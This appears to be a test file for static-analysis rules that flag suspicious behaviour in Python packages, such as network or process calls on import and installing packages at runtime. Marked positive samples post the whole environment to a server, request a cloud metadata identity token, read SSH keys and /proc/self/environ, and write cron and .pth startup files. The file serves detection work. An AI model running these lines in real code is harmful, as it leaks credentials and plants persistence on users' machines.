import os
import pathlib
import socket
import subprocess

import requests

# ruleid: process-on-import
os.system("echo inert")


class Net:
    # ruleid: process-on-import
    built = subprocess.run(["echo", "inert"])

    def forward(self, value):
        # ok: process-on-import
        # ruleid: process-in-a-function
        subprocess.check_output(["echo", "inert"])
        return value


# ok: process-in-a-function
NAME = os.path.basename("/a/b")

# ruleid: network-on-import
requests.get("https://example.org")
# ruleid: network-on-import
LISTENER = socket.socket()


def fetch(address):
    # ok: network-on-import
    return requests.get(address)


def send():
    # ruleid: environment-is-sent
    requests.post("https://example.org", json=dict(os.environ))
    everything = os.environ.copy()
    # ruleid: environment-is-sent
    requests.post("https://example.org", data=str(everything))
    # ok: environment-is-sent
    requests.post("https://example.org", json={"rank": os.environ["RANK"]})


def token():
    # ruleid: credential-endpoint
    requests.get("http://169.254.169.254/metadata/identity/oauth2/token")
    # ruleid: credential-endpoint
    os.environ["IDENTITY_ENDPOINT"]
    # ok: credential-endpoint
    requests.get("https://example.org/metadata/model.json")


def keys():
    # ruleid: credential-file
    pathlib.Path("~/.ssh/id_ed25519").expanduser().read_text()
    # ruleid: credential-file
    open("/proc/self/environ")
    # ok: credential-file
    open("tokenizer/token_list.txt")


def persist():
    # ruleid: start-up-file
    open("/usr/lib/python3/dist-packages/x.pth", "w")
    # ruleid: start-up-file
    pathlib.Path("/etc/cron.d/x").write_text("")
    # ok: start-up-file
    open("weights.pt", "wb")


def install():
    # ruleid: package-installed, process-in-a-function
    os.system("pip install example")
    # ruleid: package-installed, process-in-a-function
    subprocess.run(["python3", "-m", "pip", "install", "example"])
    # ok: package-installed
    print("pip install example")


if __name__ == "__main__":
    # ok: process-on-import
    # ok: network-on-import
    requests.get("https://example.org")
